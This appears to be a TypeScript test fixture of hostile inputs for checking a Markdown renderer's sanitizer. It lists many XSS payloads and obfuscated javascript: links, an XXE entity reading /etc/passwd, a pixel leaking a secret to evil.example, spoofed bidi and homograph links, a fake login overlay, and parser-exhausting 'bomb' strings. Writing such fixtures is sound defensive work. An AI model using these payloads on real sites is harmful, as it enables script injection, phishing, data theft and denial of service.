/** Texts that try to run, load or take over something, by what they try it with. */
export const hostile: Readonly<Record<string, string>> = {
  scripts:
    '<script>globalThis.hacked = 1</script>\n\n<script src="https://evil.example/a.js"></script>\n\n<SCRIPT\n>hacked()</SCRIPT>',
  handlers:
    '<img src=x onerror="globalThis.hacked=1"> <svg onload="globalThis.hacked=1"></svg> <body onpageshow=hacked()> <details open ontoggle=hacked()>x</details> <input autofocus onfocus=hacked()>',
  frames:
    '<iframe src="https://evil.example/"></iframe>\n\n<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>\n\n<object data="https://evil.example/a.swf"></object>\n\n<embed src="https://evil.example/">\n\n<portal src="https://evil.example/">',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n<base href="https://evil.example/">\n\n<link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example/b">',
  forms:
    '<form action="https://evil.example/"><input name=q><button formaction="javascript:hacked()">x</button></form>',
  styles:
    '<style>@import url(https://evil.example/a.css); body{display:none}</style>\n\n<p style="background:url(https://evil.example/b.png)">x</p>',
  media:
    '<video src="https://evil.example/a.mp4" autoplay onplay=hacked()></video> <audio src=//evil.example/a.mp3> <picture><source srcset="https://evil.example/a.webp"><img src=y></picture>',
  svg: '<svg><animate onbegin=hacked() attributeName=x dur=1s></animate><use href="https://evil.example/a.svg#x"/><foreignObject><iframe src="javascript:hacked()"></iframe></foreignObject></svg>',
  mathml:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;"></math>',
  broken:
    '<img src="a" onerror=hacked() <a href="javascript:hacked()" <!-- <script>hacked()</script> --!><![CDATA[<script>hacked()</script>]]> <?xml-stylesheet href="https://evil.example/a.xsl"?> <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
  schemes:
    '[a](javascript:hacked()) [b](JaVaScRiPt:hacked()) [c](vbscript:hacked()) [d](data:text/html,<script>hacked()</script>) [e](file:///etc/passwd) [f](blob:https://evil.example/x) [g](filesystem:x) [h](intent://x#Intent;end) [i](ms-word:x) [j](view-source:x)',
  entities:
    '[a](&#106;avascript:hacked()) [b](javascript&colon;hacked()) [c](java&Tab;script:hacked()) [d](java&NewLine;script:hacked()) [e](&#x6A&#x61vascript:hacked()) [f](javascript&#x3A;hacked()) [g](&#1;javascript:hacked())',
  whitespace:
    '[a](<java\tscript:hacked()>) [b](< javascript:hacked()>) [c](<\u0001javascript:hacked()>) [d](<\u00a0javascript:hacked()>) [e](\u200bjavascript:hacked()) [f](<java\u0000script:hacked()>)',
  percent:
    '[a](javascript%3Ahacked()) [b](%6Aavascript:hacked()) [c](//evil.example/x) [d](\\\\evil.example\\x) [e](/\\evil.example)',
  autolinks:
    '<javascript:hacked()> <data:text/html,x> <vbscript:x> javascript:hacked() www.evil.example/<script> https://evil.example/"onmouseover="hacked()',
  definitions:
    '[x]: javascript:hacked()\n[y]: data:text/html,<script>hacked()</script>\n[__proto__]: https://evil.example/\n[constructor]: javascript:hacked()\n\n[x] [x][x] [a][y] [b][__proto__] [c][constructor] [d][toString] ![e][x] ![f][y]',
  titles:
    '[a](https://a.example "\\" onmouseover=\\"hacked()") ![b](x.png "\\" onerror=\\"hacked()") [c](https://a.example/\\"onclick=hacked())',
  images:
    '![a](https://evil.example/pixel.png?s=secret) ![b](//evil.example/a.png) ![c](http://evil.example/a.png) ![d](javascript:hacked()) ![e](data:text/html;base64,PHNjcmlwdD4=) ![f](vbscript:x) ![](https://evil.example/0.gif) ![g](\\\\evil.example\\a.png) ![h](https:evil.example) ![i](https:/\\evil.example)',
  pictured:
    '[![a](https://evil.example/a.png)](javascript:hacked()) [![b](https://evil.example/b.png)](https://evil.example/)',
  svgImages:
    '![a](data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22hacked()%22%3E%3Cimage%20href=%22https://evil.example/a.png%22/%3E%3Cscript%3Ehacked()%3C/script%3E%3C/svg%3E)',
  formulas:
    '$\\href{javascript:hacked()}{x}$ $\\url{javascript:hacked()}$ $\\includegraphics{https://evil.example/a.png}$ $\\htmlData{onclick=hacked()}{c}$ $\\htmlId{location}{c}$ $\\htmlClass{a" onclick="hacked()}{c}$ $\\htmlStyle{background:url(https://evil.example/a)}{c}$',
  formulaText:
    '$\\text{<img src=x onerror=hacked()>}$ $$\\unicode{x3c}script\\unicode{x3e}$$ $\\def\\x{\\x\\x}\\x$ $\\rule{1000000em}{1000000em}$ $\\color{red;background:url(https://evil.example/a)}{x}$',
  code: '`</code><script>globalThis.hacked=1</script>` ``<img src=x onerror=hacked()>``',
  fences:
    '```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString hasOwnProperty\nx\n```\n\n```"><img src=x onerror=hacked()>\n</code></pre><script>hacked()</script>\n```\n\n~~~html\n<img src=x onerror=hacked()><script>hacked()</script>\n~~~\n\n```\u202etxt.exe\nx\n```',
  mermaid:
    '```mermaid\ngraph TD; A["<img src=x onerror=hacked()>"]; click A "javascript:hacked()"\n```\n\n```html {onload=hacked()}\n<script>hacked()</script>\n```',
  tables:
    '| <img src=x onerror=hacked()> | [a](javascript:hacked()) |\n| - | - |\n| ![b](https://evil.example/a.png) | <script>hacked()</script> |\n| =HYPERLINK("https://evil.example") | `</td><script>hacked()</script>` |',
  footnotes:
    '[^location] [^__proto__] [^cookie] [^"onclick="hacked()]\n\n[^location]: <img src=x onerror=hacked()>\n\n[^__proto__]: [a](javascript:hacked())\n\n[^cookie]: ![x](https://evil.example/a.png)\n\n> [^nested]\n>\n> [^nested]: <script>hacked()</script>',
  ids: '<a id=location name=cookie>x</a> <form id=document><input name=body></form> <img name=getElementById>\n\n# location {#cookie}\n\n## getElementById\n\n[^body]: x',
  citations:
    '事实 [1](javascript:hacked())，又 [2][x]，[1]: javascript:hacked()\n\n[2]: https://evil.example/\n\n引 [2]，[[1]]，[1](https://evil.example/)，![1](https://evil.example/a.png)，[１]，[1\u200b]',
  brackets:
    '[[[[a](javascript:hacked())](javascript:hacked())](https://evil.example)] ![[a](https://evil.example/a)](javascript:hacked()) [a](<javascript:hacked()>"x") [a](javascript:hacked()\n)',
  bidi: '[\u202emoc.elpmaxe.knab\u202c](https://evil.example/) \u2066\u202ehttps://evil.example/\u2069 `\u202e} /* begin` 文\u202e字\u202c',
  zeroWidth:
    '[\u200b](https://evil.example/) [](https://evil.example/) [ ](https://evil.example/) [\u2060\u200d](javascript:hacked()) [https://www.cba.net.cn](https://evil.example/) [www.cba.net.cn](https://www.cba.net.cn@evil.example/)',
  homographs:
    '[银行](https://bаnk.example/) [a](https://xn--bnk-5cd.example/) [b](https://evil.example\u2044.bank.example/)',
  comments:
    '<!-- -->\n<script>hacked()</script>\n<!--> <img src=x onerror=hacked()> -->\n\n<!--\n\n# x\n\n[a](javascript:hacked())',
  templates:
    '{{constructor.constructor("hacked()")()}} ${hacked()} <%= hacked() %> #{hacked()} {% hacked %} <template><script>hacked()</script></template> <slot onslotchange=hacked()>',
  controls:
    '\u0000<script>\u0000hacked()</script> \ufeff[a](\ufeffjavascript:hacked()) \ud800[b](javascript:hacked()\udfff) \u2028<img src=x onerror=hacked()>\u2029',
  edges:
    '**\u2063[a](java\u2063script:hacked())\u2063** [b](\u2063javascript:hacked()) ![c](https://evil.ex\u2063ample/a.png)',
  classes:
    '<div class="ant-modal-mask" style="position:fixed;inset:0">请重新登录</div> <dialog open>x</dialog> <a href="#/login" target=_top>y</a> <marquee onstart=hacked()>z</marquee>',
};

const deep = (mark: string, depth: number): string =>
  Array.from({ length: depth }, (_, level) => `${mark.repeat(level)}- a`).join('\n');

/** Texts made to keep a reader busy: about 50 kB each. */
export const bombs: Readonly<Record<string, string>> = {
  emphasis: '*a _b '.repeat(5000) + 'c_ d* '.repeat(5000),
  strong: '**a'.repeat(10_000) + 'b**'.repeat(10_000),
  stars: '*'.repeat(50_000),
  starsApart: '* '.repeat(25_000),
  quotes: `${'>'.repeat(50_000)}a`,
  quotesApart: '> '.repeat(25_000),
  quoteLines: `${'>'.repeat(30)} a\n`.repeat(1500),
  lists: '- '.repeat(25_000),
  numbers: '1. '.repeat(16_000),
  indented: deep('  ', 220),
  tabs: deep('\t', 300),
  manyItems: '- a\n'.repeat(12_000),
  looseItems: '- a\n\n'.repeat(10_000),
  brackets: '['.repeat(50_000),
  closed: `${'['.repeat(25_000)}${']'.repeat(25_000)}`,
  links: '[a]('.repeat(12_500),
  linksInLinks: `${'['.repeat(5000)}a${'](b)'.repeat(5000)}`,
  parentheses: `[a](${'('.repeat(50_000)}`,
  images: '![['.repeat(17_000),
  ticks: Array.from({ length: 310 }, (_, length) => '`'.repeat(length)).join(' a '),
  ticksOnly: '`'.repeat(50_000),
  ticksApart: '` '.repeat(25_000),
  fences: '```\n'.repeat(12_500),
  formulas: '\\('.repeat(25_000),
  dollars: '$a '.repeat(17_000),
  braces: `$${'{'.repeat(25_000)}${'}'.repeat(25_000)}$`,
  bigFormula: `$$\n${'\\frac{1}{'.repeat(5000)}${'}'.repeat(5000)}\n$$`,
  manyFormulas: '$a_1^2$ '.repeat(6000),
  tags: '<a '.repeat(17_000),
  openTags: '<a>'.repeat(17_000),
  comments: '<!-- '.repeat(10_000),
  commentLines: '<!--\n\n'.repeat(8000),
  entities: '&amp;'.repeat(10_000),
  columns: `|${'a|'.repeat(12_000)}\n|${'-|'.repeat(12_000)}\n|${'b|'.repeat(2000)}`,
  columnsWithin: `|${'a|'.repeat(90)}\n|${'-|'.repeat(90)}\n${`|${'b|'.repeat(90)}\n`.repeat(250)}`,
  rows: `|a|\n|-|\n${'|b|\n'.repeat(12_000)}`,
  definitions: Array.from({ length: 2500 }, (_, n) => `[a${n}]: https://a.example/`).join('\n'),
  references: `${'[a]'.repeat(16_000)}\n\n[a]: https://a.example/\n`,
  referenceLines: `${'[a][a]\n\n'.repeat(5000)}[a]: https://a.example/\n`,
  notes: '[^a] '.repeat(10_000),
  noteTexts: Array.from({ length: 2500 }, (_, n) => `[^a${n}]: 注`).join('\n\n'),
  headings: '# a\n'.repeat(12_500),
  rules: '---\n'.repeat(12_500),
  setext: 'a\n===\n'.repeat(8000),
  escapes: '\\'.repeat(50_000),
  hardBreaks: 'a  \n'.repeat(12_500),
  underscores: '_a_b'.repeat(12_500),
  tildes: '~~a '.repeat(12_500),
  autolinks: 'www.a.example '.repeat(3500),
  mails: 'a@b.example,'.repeat(4000),
  addresses: 'https://a.example/'.repeat(2800),
  citations: '事实[1]。'.repeat(8000),
  citationsOnly: '[1]'.repeat(16_000),
  words: '字'.repeat(50_000),
  word: 'a'.repeat(50_000),
  spaces: ' '.repeat(50_000),
  lines: '\n'.repeat(50_000),
  paragraphs: 'a\n\n'.repeat(16_000),
  codeLine: `\`\`\`ts\n${'a='.repeat(25_000)}`,
  codeInList: `- \`\`\`ts\n${'  const a = 1;\n'.repeat(3000)}`,
  quotedCode: `> \`\`\`ts\n${'> const a = 1;\n'.repeat(3000)}`,
  medium: '*a _b '.repeat(370) + 'c_ d* '.repeat(370),
};
